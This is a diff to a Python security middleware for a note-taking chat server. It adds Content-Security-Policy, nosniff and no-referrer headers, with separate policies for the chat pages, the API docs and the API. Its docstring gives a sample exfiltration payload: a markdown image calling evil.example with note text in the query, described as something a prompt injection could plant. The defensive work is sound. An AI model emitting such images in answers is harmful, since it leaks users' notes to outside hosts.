@@ -15,6 +15,12 @@ Checks in this order; the first that fails answers:
    what any web page can send without asking - never changes anything.
 5. A JSON body is at most `max_body_bytes` (413), nested at most `MAX_JSON_DEPTH` levels and holds no unpaired
    UTF-16 surrogate (`"\\ud800"` cannot be written as UTF-8), else 422 naming the field.
+
+Every HTTP answer carries a Content-Security-Policy (`content_security_policy`): the chat's pages and the API docs
+may load scripts, styles, fonts, images and media from this server only and connect only to it (its socket
+included), so an image in a note or an answer - `![](http://evil.example/pixel.png?q=...)`, possibly written by a
+prompt injection to smuggle note text out - is never fetched; API answers may load nothing at all. No other site
+may frame the pages, and no page sends a Referer elsewhere.
 """
 
 from __future__ import annotations
@@ -23,6 +29,7 @@ import hmac
 import ipaddress
 import json
 import logging
+import re
 from collections.abc import Awaitable, Callable, Iterable, MutableMapping
 from typing import Any
 from urllib.parse import urlsplit
@@ -42,12 +49,35 @@ WILDCARD_HOSTS = frozenset({"", "0.0.0.0", "::", "[::]"})
 UNSAFE_METHODS = frozenset({"POST", "PUT", "PATCH", "DELETE"})
 # no token needed: liveness, the API docs, the redirect to the chat, and /open (the chat's "Open in Obsidian"
 # links are plain navigations without the bearer header; it only redirects to an obsidian:// URL)
-OPEN_PATHS = ("/health", "/docs", "/docs/oauth2-redirect", "/redoc", "/openapi.json", "/", "/open")
+OPEN_PATHS = ("/health", "/docs", "/docs/swagger-init.js", "/redoc", "/openapi.json", "/", "/open")
+DOC_PATHS = ("/docs", "/redoc", "/docs/swagger-init.js")
+DOC_ASSETS = "/docs/assets/"           # the API docs' files (mindnet/api_docs.py)
 # Chainlit endpoints that take a form, a file or socket.io's text/plain polling (they stay behind the Origin
 # check and Chainlit's own login), relative to the UI mount
 UI_NON_JSON = ("/ws/", "/login", "/logout", "/auth/", "/set-session-cookie", "/project/file")
 MAX_JSON_DEPTH = 64
 DEFAULT_PORTS = {"http": 80, "https": 443}
+
+# what a page of this server may load and connect to: this server, nothing else
+PAGE_POLICY: dict[str, str] = {
+    "default-src": "'self'",
+    "script-src": "'self'",
+    "style-src": "'self' 'unsafe-inline'",      # React and Radix set style attributes; CSS cannot fetch past img-src
+    "img-src": "'self' data: blob:",
+    "media-src": "'self' data: blob:",          # Chainlit renders a video link as <video>
+    "font-src": "'self' data:",
+    "connect-src": "'self'",
+    "worker-src": "'self' blob:",
+    "frame-src": "'self'",
+    "object-src": "'none'",
+    "base-uri": "'self'",
+    "form-action": "'self'",
+    "frame-ancestors": "'self'",
+}
+# Chainlit compiles the custom elements (SourcePanel, DraftEditor) in the page with `new Function`
+UI_SCRIPTS = "'unsafe-eval'"
+API_POLICY = "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
+_WS_HOST = re.compile(r"^[A-Za-z0-9.-]+(:[0-9]{1,5})?$")
 
 
 class SecurityPolicy(BaseModel):
@@ -58,18 +88,20 @@ class SecurityPolicy(BaseModel):
     allowed_origins: frozenset[str] = Field(frozenset(), description="origins besides the server's own")
     token: str | None = Field(None, repr=False, description="MINDNET_API_TOKEN; None: no token needed")
     ui_path: str | None = Field(None, description="where the Chainlit chat is mounted (it logs in by itself)")
+    ui_script_hashes: frozenset[str] = Field(frozenset(), description="CSP sources ('sha256-...') of the inline "
+                                             "scripts of the chat's page shell (mindnet.ui.mount)")
     max_body_bytes: int = Field(8 * 1024 * 1024, ge=1024)
 
     @classmethod
-    def from_settings(cls, settings: Any, *, bind_host: str | None = None, ui_path: str | None = None
-                      ) -> SecurityPolicy:
+    def from_settings(cls, settings: Any, *, bind_host: str | None = None, ui_path: str | None = None,
+                      ui_script_hashes: Iterable[str] = ()) -> SecurityPolicy:
         origins = frozenset(normalize_origin(o) for o in settings.allowed_origins)
         hosts = {h.lower().rstrip(".") for h in settings.allowed_hosts}
         hosts |= {urlsplit(o).hostname or "" for o in origins}
         if bind_host and bind_host not in WILDCARD_HOSTS and not _is_ip(bind_host):
             hosts.add(bind_host.lower().rstrip("."))
         return cls(allowed_hosts=frozenset(h for h in hosts if h), allowed_origins=origins,
-                   token=settings.api_token or None, ui_path=ui_path)
+                   token=settings.api_token or None, ui_path=ui_path, ui_script_hashes=frozenset(ui_script_hashes))
 
     # ------------------------------------------------------------------ the checks, pure functions of headers
 
@@ -114,7 +146,21 @@ class SecurityPolicy(BaseModel):
         return scheme.lower() == "bearer" and hmac.compare_digest(value.strip().encode(), self.token.encode())
 
     def needs_token(self, path: str) -> bool:
-        return self.token is not None and path not in OPEN_PATHS and not self.in_ui(path)
+        return self.token is not None and path not in OPEN_PATHS and not path.startswith(DOC_ASSETS) and \
+            not self.in_ui(path)
+
+    def content_security_policy(self, path: str, host: str | None) -> str:
+        """The policy of the answer to `path`: a page (the chat, the API docs) loads from this server only, an
+        API answer loads nothing. `host` is the request's (checked) Host, for the chat's WebSocket."""
+        if self.in_ui(path):
+            scripts = " ".join(["'self'", UI_SCRIPTS, *(f"'{h}'" for h in sorted(self.ui_script_hashes))])
+            own = [f"{scheme}://{host}" for scheme in ("ws", "wss")] if host and _WS_HOST.match(host) else []
+            policy = {**PAGE_POLICY, "script-src": scripts, "connect-src": " ".join(["'self'", *own])}
+        elif path in DOC_PATHS or path.startswith(DOC_ASSETS):
+            policy = PAGE_POLICY
+        else:
+            return API_POLICY
+        return "; ".join(f"{k} {v}" for k, v in policy.items())
 
     def in_ui(self, path: str) -> bool:
         return bool(self.ui_path) and (path == self.ui_path or path.startswith(f"{self.ui_path}/"))
@@ -192,6 +238,8 @@ class SecurityMiddleware:
         if scope["type"] not in ("http", "websocket"):
             await self.app(scope, receive, send)
             return
+        if scope["type"] == "http":
+            send = self._with_headers(scope, send)
         refusal = self._refusal(scope)
         if refusal is not None:
             await self._refuse(scope, send, *refusal)
@@ -204,6 +252,24 @@ class SecurityMiddleware:
                 return
             receive = receive_or_refusal
         await self.app(scope, receive, send)
+
+    def _with_headers(self, scope: Scope, send: Send) -> Send:
+        """`send` that adds the Content-Security-Policy and its companions to the answer's headers."""
+        host = _header(scope, b"host")
+        server = scope.get("server")
+        checked = host if self.policy.host_problem(host, server[0] if server else None) is None else None
+        csp = self.policy.content_security_policy(scope.get("path", ""), checked)
+        extra = [(b"content-security-policy", csp.encode("latin-1")), (b"x-content-type-options", b"nosniff"),
+                 (b"referrer-policy", b"no-referrer")]
+
+        async def sending(message: Message) -> None:
+            if message["type"] == "http.response.start":
+                headers = list(message.get("headers") or [])
+                present = {k.lower() for k, _ in headers}
+                headers += [(k, v) for k, v in extra if k not in present]
+                message = {**message, "headers": headers}
+            await send(message)
+        return sending
 
     def _refusal(self, scope: Scope) -> tuple[int, str, str] | None:
         p = self.policy
